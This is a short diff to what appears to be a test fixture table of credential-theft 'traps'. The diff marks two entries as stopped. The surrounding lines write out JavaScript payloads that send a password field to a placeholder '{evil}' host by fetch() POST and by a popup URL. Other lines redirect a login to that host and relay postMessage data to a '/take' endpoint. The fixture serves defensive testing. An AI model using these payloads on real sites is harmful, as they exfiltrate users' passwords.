@@ -175,6 +175,7 @@ TRAPS: dict[str, Trap] = {
             "/login": "<form method=post action=/login><label>User name <input name=user autocomplete=username></label><button>Log in</button></form>"
         },
         posts={"/login": (303, "{evil}/login?login_hint={user}")},
+        finding=STOPPED,
     ),
     "fetch": _sent("fetch('{evil}/take',{method:'POST',mode:'no-cors',body:" + PW + ",keepalive:true})"),
     "fetch of JSON": _sent(
@@ -221,6 +222,7 @@ TRAPS: dict[str, Trap] = {
         },
         foreign={"/listens": "<script>onmessage=e=>fetch('/take',{method:'POST',body:e.data,keepalive:true})</script>"},
         is_login=True,
+        finding=STOPPED,
     ),
     "popup with it in its address": _sent("open('{evil}/take?p='+encodeURIComponent(" + PW + "))"),
     "referrer": Trap(
